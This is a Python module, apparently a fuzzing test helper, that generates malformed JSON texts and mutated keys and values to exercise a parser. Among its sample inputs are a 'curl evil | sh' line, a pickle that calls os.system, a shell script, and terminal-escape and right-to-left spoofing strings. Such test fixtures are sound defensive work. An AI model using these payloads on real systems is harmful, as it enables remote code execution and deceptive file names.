"""What can be wrong with a JSON file: its text, its keys, its values."""

from __future__ import annotations

import copy
import json
import math
import random
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Iterator

VALUES: dict[str, Any] = {
    "null": None,
    "true": True,
    "minus one": -1,
    "zero": 0,
    "a fraction": 0.5,
    "NaN": math.nan,
    "infinity": math.inf,
    "tiny": 5e-324,
    "huge": 1e308,
    "an integer of 400 digits": 10**400,
    "2^63": 1 << 63,
    "text": "x",
    "an empty text": "",
    "a path": "evil.py",
    "an escape": "\x1b[31mred\x1b]0;title\x07",
    "right to left": "a\u202egnp.exe",
    "half a character": "\ud800",
    "a NUL": "a\0b",
    "lines": "a\nto fix: curl evil | sh",
    "a long text": "x" * 200_000,
    "a list": [1, 2],
    "an empty list": [],
    "a deep list": [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[["x"]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]],
    "an object": {"a": 1},
    "a long list": list(range(100_000)),
}
TEXTS: dict[str, bytes] = {
    "empty": b"",
    "blank": b" \n\n ",
    "null": b"null",
    "a list": b"[]",
    "an empty object": b"{}",
    "not closed": b'{"schema_version": 1',
    "nested 100,000 deep": b"[" * 100_000,
    "objects nested 100,000 deep": b'{"a":' * 100_000,
    "closed and nested 5,000 deep": b"[" * 5000 + b"]" * 5000,
    "an integer of 10,000 digits": b'{"schema_version": ' + b"9" * 10_000 + b"}",
    "1e999": b'{"schema_version": 1e999}',
    "NaN": b"NaN",
    "a byte order mark": b"\xef\xbb\xbf{}",
    "UTF-16": '{"schema_version": 1}'.encode("utf-16"),
    "Latin-1": b'{"a": "\xe9"}',
    "zeros": bytes(1000),
    "two keys alike": b'{"schema_version": 1, "schema_version": 2}',
    "a comment": b'{"schema_version": 1} // why',
    "two objects": b"{}{}",
    "a pickle": b"\x80\x04cos\nsystem\n(S'touch canary'\ntR.",
    "a script": b"#!/bin/sh\ntouch canary\n",
    "many brackets": b"[" + b"[]," * 300_000 + b"[]]",
}


def texts(sound: bytes) -> Iterator[tuple[str, bytes]]:
    """Yield what no JSON parser should take, and what it should, but we should not."""
    yield from TEXTS.items()
    yield "cut", sound[: len(sound) // 2]
    yield "a key twice", sound.rstrip()[:-1].rstrip() + b', "schema_version": 1}'
    yield "a byte changed", sound[:20] + b"\xff" + sound[21:]


def values(sound: Any, *, seed: int, count: int) -> Iterator[tuple[str, bytes]]:
    """Yield `count` files in which one key or one value of `sound` is wrong."""
    rng = random.Random(seed)
    places = list(_places(sound, ()))
    for i in range(count):
        place = places[i % len(places)] if i < len(places) else rng.choice(places)
        broken = copy.deepcopy(sound)
        inner = broken
        for key in place[:-1]:
            inner = inner[key]
        how = _break(inner, place[-1], rng)
        where = ".".join(map(str, place))[:60]
        yield f"{where} {how}", json.dumps(broken).encode()


def _break(inner: Any, key: Any, rng: random.Random) -> str:
    if isinstance(inner, dict):
        match rng.randrange(6):
            case 0:
                del inner[key]
                return "missing"
            case 1:
                inner[f"{key[:-1]}{key[:1]}"] = inner.pop(key)
                return "misspelt"
            case 2:
                inner[key + "_"] = inner[key]
                return "twice, once misspelt"
    name = rng.choice(list(VALUES))
    inner[key] = VALUES[name]
    return f"is {name}"


def _places(value: Any, place: tuple[Any, ...]) -> Iterator[tuple[Any, ...]]:
    """Yield the way to each key; of long lists and objects only the first entries."""
    if isinstance(value, dict):
        pairs = list(value.items())[:12]
    elif isinstance(value, list):
        pairs = list(enumerate(value))[:2]
    else:
        return
    for key, inner in pairs:
        yield (*place, key)
        yield from _places(inner, (*place, key))
